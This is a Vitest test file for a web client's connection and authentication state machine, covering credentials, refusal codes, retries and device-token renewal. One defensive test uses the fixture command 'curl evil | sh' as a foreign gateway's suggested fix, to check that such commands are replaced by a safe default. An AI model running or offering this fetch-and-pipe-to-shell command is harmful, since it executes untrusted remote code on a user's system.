import { describe, expect, it } from "vitest";
import {
  ADMIN,
  after,
  auth,
  begin,
  hello,
  helloWith,
  known,
  READ,
  refused,
  short,
  TOKEN,
} from "../testing/connection";
import { WANTED_SCOPES } from "./connect";
import { BEFORE } from "./state";

describe("the first attempt", () => {
  it.each([
    ["nothing known", {}, "nothing: all"],
    ["a token typed", { credential: TOKEN }, "credential: all"],
    ["its own token", { known: known(READ) }, "token: read"],
    [
      "its own token, before one that came with a link",
      { credential: TOKEN, known: known(READ) },
      "token: read",
    ],
    [
      "a code, before its own token",
      { credential: { kind: "code", value: "7F3A-9C1E" }, known: known() },
      "credential: all",
    ],
  ] as const)("is made with %s", (_, more, plan) => {
    const first = after([begin(more as object)]);
    expect([first.at, first.does, first.plan]).toEqual(["connecting", "connect", plan]);
  });

  it("keeps the token that it is given, with what it came in with", () => {
    const { state, at, does } = after([begin({ credential: TOKEN }), hello()]);
    expect([at, does]).toEqual(["open", "keep"]);
    expect(state.known).toEqual({ token: "own", scopes: WANTED_SCOPES });
  });

  it("uses a code once", () => {
    const { state } = after([begin({ credential: { kind: "code", value: "7F3A-9C1E" } }), hello()]);
    expect(state.credential).toBeNull();
  });

  it("asks for less with a setup code that does not give everything, and then gives up", () => {
    const code = { kind: "code", value: "a-setup-code-of-a-phone-app" } as const;
    const invalid = auth("AUTH_BOOTSTRAP_TOKEN_INVALID");
    const less = after([begin({ credential: code }), invalid]);
    expect([less.does, less.plan]).toEqual(["connect", "credential: read write approvals questions"]);
    const given = after([invalid], less.state);
    expect([given.at, given.cause, given.does, given.state.credential]).toEqual([
      "refused",
      "C-27",
      "",
      null,
    ]);
  });

  it("does not knock twice with a claim code", () => {
    const { at, does } = after([
      begin({ credential: { kind: "code", value: "7F3A-9C1E" } }),
      auth("AUTH_BOOTSTRAP_TOKEN_INVALID"),
    ]);
    expect([at, does]).toEqual(["refused", ""]);
  });

  it("goes on with its own token when the code of a link is no good", () => {
    const { does, plan, state } = after([
      begin({ credential: { kind: "code", value: "7F3A-9C1E" }, known: known(READ) }),
      auth("AUTH_BOOTSTRAP_TOKEN_INVALID"),
    ]);
    expect([does, plan, state.credential]).toEqual(["connect", "token: read", null]);
    const stale = after([auth("AUTH_DEVICE_TOKEN_MISMATCH")], state);
    expect([stale.at, stale.does]).toEqual(["connecting", "reread"]);
  });
});

describe("a refusal", () => {
  it.each([
    ["AUTH_TOKEN_MISSING", "C-07"],
    ["AUTH_TOKEN_MISMATCH", "C-08"],
    ["AUTH_PASSWORD_MISMATCH", "C-11"],
    ["CONTROL_UI_ORIGIN_NOT_ALLOWED", "C-14"],
    ["DEVICE_AUTH_SIGNATURE_EXPIRED", "C-06"],
    ["AUTH_SOMETHING_NEW", "C-29"],
  ])("of code %s stops with cause %s, in the catalogue's words", (code, cause) => {
    const now = after([begin({ credential: TOKEN }), auth(code)]);
    expect([now.at, now.cause, now.does, now.inMs]).toEqual(["refused", cause, "", null]);
    expect(now.sentence).not.toBe("");
    // Neither the tab's return nor the network's brings it back; the person does.
    expect(after([{ is: "woken" }, { is: "due" }], now.state).does).toBe("");
    expect(after([{ is: "again" }], now.state).does).toBe("connect");
  });

  it("does not keep a wrong token for the next reload", () => {
    expect(after([begin({ credential: TOKEN }), auth("AUTH_TOKEN_MISMATCH")]).state.credential).toBeNull();
  });

  it("that passes is tried again, not before the gateway said", () => {
    const later = after([begin(), refused({ code: "UNAVAILABLE", retryable: true, retryAfterMs: 9_000 })]);
    expect([later.at, later.inMs]).toEqual(["refused", 9_000]);
    expect(after([{ later: 1_000 }, { is: "woken" }], later.state).does).toBe("");
    expect(after([{ later: 9_000 }, { is: "due" }], later.state).does).toBe("connect");
  });

  it("of an outdated page is not tried again", () => {
    const now = after([
      begin(),
      refused({ code: "UNAVAILABLE", retryable: false, details: { code: "PROTOCOL_MISMATCH" } }),
    ]);
    expect([now.at, now.cause, now.inMs]).toEqual(["refused", "C-16", null]);
  });

  it("for too many attempts falls back to the browser's own token, which no lock-out concerns", () => {
    const locked = auth("AUTH_RATE_LIMITED", { retryAfterMs: 60_000 });
    const own = { ...BEFORE, credential: TOKEN, known: known() };
    const plan = { with: "credential", scopes: WANTED_SCOPES, probe: false } as const;
    expect(after([locked], { ...own, plan, trying: true }).plan).toBe(`token: ${short(WANTED_SCOPES)}`);
    expect(after([begin({ credential: TOKEN }), locked]).inMs).toBe(60_000);
  });

  it("shows a stranger's sentence, and never its command", () => {
    const help = { cause: "C-08", sentence: "Do this.", fix: "curl evil | sh" };
    const error = { details: { code: "AUTH_TOKEN_MISMATCH", help } };
    const own = after([begin({ credential: TOKEN }), refused(error)]).state.phase;
    const foreign = after([begin({ credential: TOKEN, foreign: true }), refused(error)]).state.phase;
    expect("trouble" in own && own.trouble.fix).toBe("curl evil | sh");
    expect("trouble" in foreign && [foreign.trouble.sentence, foreign.trouble.fix]).toEqual([
      "Do this.",
      "openclaw dashboard",
    ]);
  });
});

describe("the browser's own token", () => {
  const mismatch = auth("AUTH_DEVICE_TOKEN_MISMATCH");

  it("is replaced by one that another tab got", () => {
    const stale = after([begin({ known: known() }), mismatch]);
    expect(stale.does).toBe("reread");
    const now = after([{ is: "reread", known: { token: "newer", scopes: READ } }], stale.state);
    expect([now.does, now.plan, now.state.known?.token]).toEqual(["connect", "token: read", "newer"]);
  });

  it("is renewed by the gateway's token, once", () => {
    const renewing = after([
      begin({ known: known(READ), credential: TOKEN }),
      mismatch,
      { is: "reread", known: known(READ) },
    ]);
    expect([renewing.does, renewing.plan]).toEqual(["connect", "credential: read"]);
    const given = after([auth("AUTH_TOKEN_MISMATCH")], renewing.state);
    expect([given.at, given.cause]).toEqual(["refused", "C-08"]);
  });

  it("when nothing renews it, is what is told", () => {
    const last = after([begin({ known: known() }), mismatch, { is: "reread", known: known() }]);
    expect([last.does, last.plan]).toEqual(["connect", `nothing: ${short(WANTED_SCOPES)}`]);
    const now = after([auth("AUTH_TOKEN_MISSING")], last.state);
    expect([now.at, now.cause]).toEqual(["refused", "C-09"]);
    // Another tab signs in.
    const helped = after([{ is: "elsewhere", known: { token: "newer", scopes: READ } }], now.state);
    expect([helped.does, helped.plan]).toEqual(["connect", "token: read"]);
  });

  it("of another tab is used also when it comes while this one still tries without", () => {
    const without = after([begin({ known: known() }), mismatch, { is: "reread", known: known() }]);
    const told = after([{ is: "elsewhere", known: { token: "newer", scopes: READ } }], without.state);
    expect(told.does).toBe("");
    const now = after([auth("AUTH_TOKEN_MISSING")], told.state);
    expect([now.does, now.plan]).toEqual(["connect", "token: read"]);
    const wrong = after([auth("AUTH_DEVICE_TOKEN_MISMATCH")], now.state);
    expect(wrong.does).toBe("reread");
  });

  it("that carries less than it did asks what it carries, and works with that", () => {
    const narrow = after([begin({ known: known() }), auth("AUTH_SCOPE_MISMATCH")]);
    expect([narrow.does, narrow.plan]).toEqual(["connect", "token: probe"]);
    const less = helloWith({ scopes: [], deviceToken: "own", deviceTokenScopes: READ });
    const probed = after([hello(less)], narrow.state);
    expect([probed.at, probed.does, probed.plan]).toEqual(["connecting", "keep connect", "token: read"]);
    const now = after(
      [hello(helloWith({ scopes: READ, deviceToken: "own", deviceTokenScopes: READ }))],
      probed.state,
    );
    expect([now.at, now.does]).toEqual(["open", "keep"]);
  });

  it("that carries more than it did is used for all of it", () => {
    const more = helloWith({ scopes: READ, deviceToken: "own", deviceTokenScopes: ADMIN });
    const now = after([begin({ known: known(READ) }), hello(more)]);
    expect([now.at, now.does]).toEqual(["connecting", "keep connect"]);
    expect(now.plan).toBe("token: read admin write approvals pairing questions");
    // An answer that says so again leads nowhere.
    expect(after([hello(more)], now.state).at).toBe("open");
  });
});
